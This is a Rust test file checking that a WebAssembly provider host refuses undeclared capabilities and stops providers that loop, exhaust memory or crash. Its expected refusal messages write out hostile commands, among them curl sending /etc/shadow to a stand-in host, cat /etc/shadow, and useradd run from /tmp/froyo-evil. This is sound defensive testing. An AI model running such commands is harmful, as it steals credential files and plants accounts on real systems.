//! The host refuses what a provider did not declare, and stops providers that
//! loop or hoard memory: the real overreach component under real wasmtime.

mod common;

use common::*;
use expect_test::expect;
use froyo_providers::{Host, HostOptions, ProviderError};
use serde_json::json;

#[test]
fn overreach_path_is_refused() {
    let r = plan_req(
        json!({"path": "/tmp/mine", "target": "/etc/shadow", "mode": "path"}),
        facts(),
        vec![absent()],
        false,
    );
    expect![[r#"error: refused: test.overreach: op 1 (write_file) touches /etc/shadow, outside its declared capabilities (path properties path = "/tmp/mine")"#]].assert_eq(&plan("test.overreach", &r));
}

#[test]
fn overreach_command_is_refused() {
    let r =
        plan_req(json!({"path": "/tmp/mine", "mode": "command"}), facts(), vec![absent()], false);
    expect![[r#"error: refused: test.overreach: op 1 (exec) command runs ["/usr/bin/curl", "-d@/etc/shadow", "http://example.invalid/"], outside its declared capabilities (commands ["useradd"]; command properties none)"#]].assert_eq(&plan("test.overreach", &r));
}

#[test]
fn overreach_probe_is_refused() {
    expect![[r#"error: refused: test.overreach: probe 1 (command) runs ["/bin/cat", "/etc/shadow"], outside its declared capabilities (commands ["useradd"]; command properties none)"#]].assert_eq(&probe("test.overreach", &probe_req(json!({"path": "/tmp/mine", "mode": "probe"}), facts())));
}

#[test]
fn overreach_reading_an_undeclared_file_is_refused() {
    expect![[r#"error: refused: test.overreach: probe 1 (stat) reads the content of /etc/shadow, outside its declared capabilities (path properties path = "/tmp/mine")"#]].assert_eq(&probe("test.overreach", &probe_req(json!({"path": "/tmp/mine", "mode": "read"}), facts())));
}

#[test]
fn overreach_a_declared_command_from_elsewhere_is_refused() {
    let r =
        plan_req(json!({"path": "/tmp/mine", "mode": "program"}), facts(), vec![absent()], false);
    expect![[r#"error: refused: test.overreach: op 0 (exec) command runs ["/tmp/froyo-evil/useradd", "mallory"], outside its declared capabilities (commands ["useradd"]; command properties none)"#]].assert_eq(&plan("test.overreach", &r));
}

#[test]
fn overreach_a_declared_command_in_a_context_of_its_choosing_is_refused() {
    let refused = |mode: &str| {
        let r =
            plan_req(json!({"path": "/tmp/mine", "mode": mode}), facts(), vec![absent()], false);
        plan("test.overreach", &r)
    };
    expect![[r#"error: refused: test.overreach: op 0 (exec) command sets PATH in the environment of ["useradd", "mallory"], outside its declared capabilities (the resource's env, user and cwd properties, path properties path = "/tmp/mine", and DEBIAN_FRONTEND=noninteractive)"#]].assert_eq(&refused("env"));
    expect![[r#"error: refused: test.overreach: op 0 (exec) command runs ["useradd", "mallory"] as nobody, outside its declared capabilities (the resource's env, user and cwd properties, path properties path = "/tmp/mine", and DEBIAN_FRONTEND=noninteractive)"#]].assert_eq(&refused("user"));
    expect![[r#"error: refused: test.overreach: op 0 (exec) command runs ["useradd", "mallory"] in /tmp/froyo-evil, outside its declared capabilities (the resource's env, user and cwd properties, path properties path = "/tmp/mine", and DEBIAN_FRONTEND=noninteractive)"#]].assert_eq(&refused("cwd"));
}

#[test]
fn overreach_wasi_files_environment_clock_and_sockets_trap() {
    for mode in ["wasi-file", "wasi-env", "wasi-clock", "wasi-socket"] {
        let r = plan_req(json!({"path": "/tmp/mine", "mode": mode}), facts(), vec![], false);
        let err = host().plan("test.overreach", &r).expect_err(mode);
        assert!(matches!(err, ProviderError::Trap { .. }), "{mode}: {err}");
        assert!(err.to_string().contains("providers are granted no imports"), "{mode}: {err}");
    }
}

#[test]
fn overreach_behaving_is_allowed() {
    let r =
        plan_req(json!({"path": "/tmp/./mine", "mode": "none"}), facts(), vec![absent()], false);
    assert_eq!(plan_ok("test.overreach", &r).ops.len(), 1);
    // The normalised declared path matches the op's path.
    let r =
        plan_req(json!({"path": "/tmp//mine/", "mode": "none"}), facts(), vec![absent()], false);
    assert!(host().plan("test.overreach", &r).is_ok());
}

#[test]
fn spinning_provider_runs_out_of_fuel() {
    let r = plan_req(json!({"path": "/tmp/mine", "mode": "spin"}), facts(), vec![], false);
    let err = host().plan("test.overreach", &r).expect_err("spinning must be stopped");
    assert!(matches!(err, ProviderError::OutOfFuel { .. }), "{err:?}");
    expect!["provider test.overreach ran out of fuel in plan (limit 2000000000): it loops or does far too much work"].assert_eq(&err.to_string());
}

#[test]
fn hoarding_provider_hits_the_memory_cap() {
    let r = plan_req(json!({"path": "/tmp/mine", "mode": "hog"}), facts(), vec![], false);
    let err = host().plan("test.overreach", &r).expect_err("hoarding must be stopped");
    assert!(matches!(err, ProviderError::MemoryLimit { .. }), "{err:?}");
    expect!["provider test.overreach exceeded its memory limit of 64 MiB in plan"]
        .assert_eq(&err.to_string());
}

#[test]
fn panicking_provider_is_a_trap() {
    let r = plan_req(json!({"path": "/tmp/mine", "mode": "panic"}), facts(), vec![], false);
    let err = host().plan("test.overreach", &r).expect_err("a panic is an error");
    assert!(matches!(err, ProviderError::Trap { .. }), "{err:?}");
    let text = err.to_string();
    assert!(text.starts_with("provider test.overreach crashed in plan:"), "{text}");
    assert!(text.contains("providers are granted no imports"), "{text}");
}

#[test]
fn a_smaller_budget_is_respected() {
    let dir = std::env::temp_dir().join("froyo-providers-test-cache");
    let mut h =
        Host::new(HostOptions { cache_dir: Some(dir), fuel: 1_000, memory_bytes: 64 << 20 })
            .expect("host");
    h.load(froyo_providers::builtin::OVERREACH).expect("loads");
    let r = plan_req(json!({"path": "/etc/motd", "content": "x"}), facts(), vec![absent()], false);
    assert!(matches!(h.plan("linux.file", &r), Err(ProviderError::OutOfFuel { .. })));
}

#[test]
fn loading_a_type_twice_is_refused() {
    let mut h = Host::new(HostOptions {
        cache_dir: Some(std::env::temp_dir().join("froyo-providers-test-cache")),
        ..HostOptions::default()
    })
    .expect("host");
    let err = h.load(froyo_providers::builtin::FILE).expect_err("duplicate");
    assert_eq!(err.to_string(), "two providers implement the type linux.file");
    let err = h.load(b"not wasm").expect_err("garbage");
    assert!(err.to_string().starts_with("cannot load provider"), "{err}");
}

#[test]
fn concurrent_calls_from_threads() {
    let h = host();
    std::thread::scope(|s| {
        for i in 0..4 {
            s.spawn(move || {
                let r = plan_req(
                    json!({"path": format!("/tmp/f{i}"), "content": "x"}),
                    facts(),
                    vec![absent()],
                    false,
                );
                for _ in 0..10 {
                    let p = h.plan("linux.file", &r).expect("plan");
                    assert_eq!(p.ops.len(), 1);
                }
            });
        }
    });
}

/// Every call gets a clean instance: nothing a call leaves in statics or on
/// the heap reaches the next one, even though memory slots are reused and
/// kept resident between instances. The 100 calls leak 100 MiB in all, over
/// the 64 MiB cap; only a fresh memory per call lets them all succeed. A call
/// that blew the cap (`hog`) in between leaves nothing behind either.
#[test]
fn every_call_starts_from_a_clean_instance() {
    let h = host();
    let remember =
        plan_req(json!({"path": "/tmp/mine", "mode": "remember"}), facts(), vec![], false);
    let hog = plan_req(json!({"path": "/tmp/mine", "mode": "hog"}), facts(), vec![], false);
    for call in 0..100 {
        if call == 50 {
            assert!(h.plan("test.overreach", &hog).is_err());
        }
        let response =
            h.plan("test.overreach", &remember).unwrap_or_else(|e| panic!("call {call}: {e}"));
        assert_eq!(response.notes, ["calls before: 0; dirty static bytes: 0"], "call {call}");
    }
}
